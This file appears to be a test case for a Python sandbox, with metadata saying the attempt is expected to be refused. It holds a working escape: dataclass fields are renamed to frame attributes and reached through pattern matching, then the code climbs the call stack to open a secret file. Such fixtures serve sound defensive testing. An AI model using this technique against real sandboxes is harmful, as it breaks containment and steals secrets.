# category: decorator-metadata
# signal: secret
# expect: refused
# tripwire: stops object.__getattr__ gi_frame
# source: the field-name check of the dataclass façade covers the annotations of the decorated class, not the fields it inherits; a base's field object (of a program subclass of dataclasses.Field) renamed to gi_frame, f_builtins, f_back becomes the subclass's __match_args__, and ABC registration makes a generator and frames match
import collections.abc
import dataclasses
Field = type(dataclasses.field())
class Renamable(Field):
    pass
def read(obj, name):
    @dataclasses.dataclass
    class Base:
        x: int = Renamable(0, dataclasses.MISSING, True, True, None, True, None, False)
    dataclasses.fields(Base)[0].name = name
    @dataclasses.dataclass
    class View(Base, collections.abc.Sequence):
        pass
    View.register(type(obj))
    match obj:
        case View(value):
            return value
def walk():
    frame = read(walker, "gi_frame")
    while frame is not None:
        builtins = read(frame, "f_builtins")
        if "exec" in builtins:
            yield builtins["open"]("{SECRET_PATH}").read()
            return
        frame = read(frame, "f_back")
    yield "no host frame found"
walker = walk()
return next(walker)
